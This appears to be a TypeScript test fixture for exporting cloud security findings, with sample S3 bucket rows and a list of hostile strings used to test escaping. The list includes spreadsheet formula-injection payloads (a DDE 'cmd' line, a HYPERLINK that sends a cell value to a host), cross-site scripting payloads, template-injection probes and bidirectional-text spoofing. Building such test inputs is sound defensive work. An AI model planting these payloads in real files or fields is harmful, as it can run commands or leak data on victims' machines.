import { type Finding, fingerprintOf, type ResourceRef, type Severity, type Suppression } from "@posture/core";
import type { ExportContext, ExportedCheck, ExportRow } from "./row.ts";

const AT = "2026-11-24T12:00:00.000Z";

export const CONTEXT: ExportContext = {
  at: AT,
  filter: { severity: ["critical", "high"], region: ["eu-west-1"] },
  version: "0.1.0",
  trend: [
    { day: "2026-11-23", critical: 3, high: 5, medium: 2, low: 0 },
    { day: "2026-11-24", critical: 2, high: 5, medium: 4, low: 1 },
  ],
  coverage: { complete: 119, total: 120, incomplete: ["AWS::S3::Bucket in eu-west-1: denied, grant s3:ListAllMyBuckets"] },
  counts: { critical: 2, high: 5, medium: 4, low: 1 },
};

export const COMPLETE: ExportContext["coverage"] = { complete: 120, total: 120, incomplete: [] };
export const NOTHING_OPEN: ExportContext["counts"] = { critical: 0, high: 0, medium: 0, low: 0 };

const BUCKET: ResourceRef = {
  type: "AWS::S3::Bucket",
  arn: "arn:aws:s3:::example-data",
  name: "example-data",
  accountId: "012345678901",
  region: "eu-west-1",
};

const CHECK: ExportedCheck = {
  id: "s3/bucket-acl-public",
  title: "Bucket ACL grants public read",
  risk: "Anyone can list and read what is in the bucket.",
  categories: ["s3"],
  frameworks: { "aws-fsbp": ["S3.2", "S3.3"], "cis-aws-foundations-5.0": ["2.1.4"] },
  remediation: {
    steps: [
      { text: "Block public access to the bucket example-data.", command: "aws s3api put-public-access-block --bucket example-data" },
      { text: "Remove the grant to everyone.", docs: "https://docs.aws.amazon.com/AmazonS3/latest/userguide/acl-overview.html" },
    ],
    docs: "https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html",
  },
};

export interface Given {
  readonly severity?: Severity;
  readonly ref?: Partial<ResourceRef>;
  readonly finding?: Partial<Finding>;
  readonly row?: Partial<ExportRow>;
}

/** A row as the store would give it; only what matters to a test is said. */
export function row({ severity = "critical", ref = {}, finding = {}, row: more = {} }: Given = {}): ExportRow {
  const resource = { ...BUCKET, ...ref };
  const fingerprint = fingerprintOf("s3/bucket-acl-public", resource);
  return {
    finding: {
      fingerprint,
      aliases: [],
      checkId: "s3/bucket-acl-public",
      ref: resource,
      severity,
      title: CHECK.title,
      condition: "failing",
      watched: "yes",
      coveredBy: null,
      message: {
        id: "public",
        text: `The ACL of bucket ${resource.name} grants READ to everyone.`,
        evidence: { grants: [{ grantee: "AllUsers", permission: "READ" }], blocked: false, objects: 12 },
        notes: [],
      },
      openedAt: "2026-11-01T08:15:30.250Z",
      clearedAt: null,
      reopened: 0,
      lastSeenAt: "2026-11-24T11:00:00.000Z",
      evidenceAt: "2026-11-24T10:59:58.000Z",
      stale: null,
      ...finding,
    },
    status: "open",
    id: fingerprint.slice(3, 15),
    suppression: null,
    check: CHECK,
    console: "https://eu-west-1.console.aws.amazon.com/s3/buckets/example-data",
    ...more,
  };
}

export const SUPPRESSION: Suppression = {
  id: "sup-1",
  scope: { fingerprint: row().finding.fingerprint },
  justification: "The website of the bucket is meant to be public.",
  by: { kind: "user", id: "U024BE7LH", via: "slack" },
  from: "2026-11-20T09:00:00.000Z",
  expiresAt: "2026-12-20T09:00:00.000Z",
  approval: "not-needed",
  ended: null,
};

const GAP = {
  reason: "denied",
  missing: ["s3:GetBucketAcl"],
  detail: "GetBucketAcl: AccessDenied",
  since: "2026-11-23T00:00:00.000Z",
} as const;

export const ASSIGNEE = { id: "U024BE7LH", at: "2026-11-20T09:00:00.000Z", by: { kind: "user", id: "U0ANA0000", via: "slack" } } as const;

/** One of each status, and of what else makes a row differ. */
export const EVERY_KIND: readonly ExportRow[] = [
  row({ finding: { assignee: ASSIGNEE } }),
  row({ severity: "high", ref: { name: "stale", arn: "arn:aws:s3:::stale" }, finding: { stale: GAP, reopened: 2 } }),
  row({
    severity: "medium",
    ref: { name: "part", subResourceId: "AKIAEXAMPLE" },
    finding: { coveredBy: "s3/bucket-policy-public" },
    row: { status: "covered" },
  }),
  row({ severity: "low", ref: { name: "hidden", arn: "arn:aws:s3:::hidden" }, row: { status: "suppressed", suppression: SUPPRESSION } }),
  row({
    ref: { name: "ruled" },
    row: { status: "suppressed", suppression: { ...SUPPRESSION, scope: { rule: { accounts: ["012345678901"] } }, by: { kind: "system" } } },
  }),
  row({
    ref: { name: "mended", arn: "arn:aws:s3:::mended" },
    finding: { tags: { owner: "web", team: "a; b" }, condition: "cleared", clearedAt: "2026-11-10T08:15:30.000Z" },
    row: { status: "resolved" },
  }),
  row({
    ref: { name: "retired", region: "global", arn: "arn:aws-us-gov:s3:::retired" },
    finding: { watched: "retired" },
    row: { status: "retired", check: null, console: null },
  }),
  row({
    ref: { name: "away", arn: "arn:aws:s3:::away" },
    finding: { watched: "unmonitored", message: { id: "m", text: "Public.", evidence: {}, notes: ["A note."] } },
    row: { status: "unmonitored" },
  }),
];

/** What strangers may have named their things. */
export const HOSTILE: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://example.com/?x="&A1,"click")',
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u3000＝1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "\0=1+1",
  "'=1+1",
  "''",
  "'",
  "'\"",
  '"=1+1"',
  '"',
  '""',
  '\'"x"',
  "a;=1+1",
  'a;"=1+1',
  "a\t=1+1",
  "a\n=1+1;b",
  "a|=1+1",
  'x";=1+1;"',
  "a,=1+1",
  '",=1+1,"',
  "1E5",
  "12345678e901",
  "000123",
  "2024-01-02",
  "1/2",
  "MARCH1",
  "Sep-2",
  "TRUE",
  "false",
  "12:30",
  "5%",
  "$5",
  "(5)",
  "1,5",
  "٣٤",
  "１２",
  "12dec2024000",
  "01/02/2024",
  "NaN",
  "1e999",
  "0x1F",
  "Mai 5",
  "line\nbreak",
  "carriage\rreturn",
  "both\r\nof them",
  "a\tb",
  "trailing \n",
  " leading",
  "trailing ",
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  "<!--",
  "-->",
  "]]>",
  "<![CDATA[",
  "</style><style>*{display:none}",
  "</title>",
  "</details></li></ul><h1>gone</h1>",
  "&lt;b&gt;&amp;",
  "${7*7}{{7*7}}",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "\u202Egnp.exe",
  "a\u2066b\u2069c",
  "\u061C",
  "line\u2028separator\u2029",
  "\u0000",
  "\u001B[31mred\u001B[0m",
  "\u0007",
  "\u0085",
  "\u007F",
  "\uFFFE\uFFFF",
  "\uFFFD",
  "\uD800",
  "\uDC00",
  "x\uD83Dy",
  "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 é e\u0301",
  "نام‌خانوادگی",
  "日本語",
  "",
  " ",
  "null",
  "undefined",
  "__proto__",
  "constructor",
  "x".repeat(40_000),
  `${"y".repeat(32_767)}=1+1`,
];

/** Every place of a row that a stranger's text can get to. */
export function hostileRow(text: string, index: number): ExportRow {
  const evidence = { value: text, list: [text, { [text === "__proto__" ? "proto" : text]: text }], nothing: null };
  const tags = { owner: text, [text === "__proto__" ? "proto" : text]: text };
  const step = { text, command: text, docs: text };
  return row({
    ref: { name: text, arn: `arn:aws:s3:::${index}/${text}`, subResourceId: text, type: text, region: text },
    finding: {
      title: text,
      tags,
      assignee: { ...ASSIGNEE, id: text, by: { ...ASSIGNEE.by, id: text } },
      message: { id: "m", text, evidence, notes: [text] },
      stale: { ...GAP, detail: text, missing: [text] },
    },
    row: {
      status: "suppressed",
      suppression: { ...SUPPRESSION, justification: text, by: { kind: "user", id: text, via: "cli" } },
      check: {
        ...CHECK,
        title: text,
        risk: text,
        categories: [text],
        frameworks: { f: [text] },
        remediation: { steps: [step], docs: text },
      },
      console: text,
    },
  });
}

export const HOSTILE_ROWS: readonly ExportRow[] = HOSTILE.map(hostileRow);
/** A megabyte, written by somebody who knows how spreadsheets cut it. */
export const LARGE: string = '=é\u202E"\n;=1+1'.repeat(90_000);
export const LARGE_ROW: ExportRow = row({ finding: { message: { id: "m", text: "Large.", evidence: { value: LARGE }, notes: [] } } });

export const HOSTILE_CONTEXT: ExportContext = {
  ...CONTEXT,
  filter: Object.fromEntries(HOSTILE.slice(0, 90).map((text, i) => [`f${i}`, [text]])),
  coverage: { complete: 1, total: 2, incomplete: HOSTILE },
};

export async function* streamOf(rows: Iterable<ExportRow>): AsyncGenerator<ExportRow> {
  for (const it of rows) yield it;
}

/** The whole text, and that it survives the way through UTF-8, which is how it is written. */
export async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  let text = "";
  for await (const piece of pieces) text += piece;
  return Buffer.from(text, "utf8").toString("utf8");
}
